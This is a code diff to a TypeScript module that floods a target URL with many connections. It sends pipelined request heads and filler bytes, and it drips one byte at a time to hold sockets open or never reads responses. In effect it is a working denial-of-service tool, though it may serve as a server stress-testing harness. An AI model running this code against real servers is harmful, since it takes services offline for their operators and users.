@@ -14,8 +14,9 @@ export interface FloodPlan {
   head: string;
   /** How often the head is sent, pipelined. */
   repeat?: number;
-  /** Bytes that follow the head. */
+  /** Bytes that follow the head, and what each of them is: "<" if undefined. */
   filler?: number;
+  fill?: string;
   /** Sends one more byte as often as this. */
   dripMs?: number;
   /** Sends the head again after each response; otherwise responses are never read. */
@@ -38,21 +39,22 @@ export function startFlood(url: string, plan: FloodPlan): () => Promise<void> {
 
 function flood(url: string, plan: FloodPlan): void {
   const { hostname, port, host } = new URL(url);
-  const { connections, addresses, head, repeat = 1, filler = 0, dripMs, reads, reopens } = plan;
+  const { connections, addresses, head, repeat = 1, dripMs, reads, reopens } = plan;
+  const { filler = 0, fill = "<" } = plan;
   const request = Buffer.from(head.replaceAll("HOST", host));
-  const payload = Buffer.concat([...Array(repeat).fill(request), Buffer.alloc(filler, "<")]);
+  const payload = Buffer.concat([...Array(repeat).fill(request), Buffer.alloc(filler, fill)]);
   const open = (localAddress: string) => {
     const socket = connect({ host: hostname, port: Number(port), localAddress });
     let drip: NodeJS.Timeout | undefined;
     socket.once("connect", () => {
       socket.write(payload);
-      if (dripMs) drip = setInterval(() => socket.write("<"), dripMs);
+      if (dripMs) drip = setInterval(() => socket.write(fill), dripMs);
     });
     if (reopens) socket.once("data", () => socket.destroy());
     else if (reads) {
-      // Good enough for one response at a time: the next request follows its last bytes.
+      const isAtEnd = newEndTest();
       socket.on("data", (chunk: Buffer) => {
-        if (chunk.subarray(-5).equals(lastChunk) || isWhole(chunk)) socket.write(payload);
+        if (isAtEnd(chunk)) socket.write(payload);
       });
     } else socket.pause();
     socket.on("error", () => {});
@@ -68,11 +70,25 @@ function flood(url: string, plan: FloodPlan): void {
 
 const lastChunk = Buffer.from("0\r\n\r\n");
 
-/** Whether these bytes are one response with a Content-Length. */
-function isWhole(chunk: Buffer): boolean {
-  const end = chunk.indexOf("\r\n\r\n");
-  const length = /\r\nContent-Length: (\d+)/i.exec(chunk.toString("latin1", 0, end))?.[1];
-  return length !== undefined && chunk.length >= end + 4 + Number(length);
+/**
+ * Returns a function that takes the bytes of a connection as they arrive, and says whether they end a
+ * response.
+ */
+function newEndTest(): (chunk: Buffer) => boolean {
+  let left: number | undefined;
+  return (chunk) => {
+    if (left === undefined) {
+      const headEnd = chunk.indexOf("\r\n\r\n") + 4;
+      const length = /\r\nContent-Length: (\d+)/i.exec(chunk.toString("latin1", 0, headEnd))?.[1];
+      left = length === undefined ? Number.POSITIVE_INFINITY : headEnd + Number(length);
+    }
+    left -= chunk.length;
+    if (left > 0 && !(left === Number.POSITIVE_INFINITY && chunk.subarray(-5).equals(lastChunk))) {
+      return false;
+    }
+    left = undefined;
+    return true;
+  };
 }
 
 if (import.meta.main) flood(process.argv[2]!, JSON.parse(process.argv[3]!));
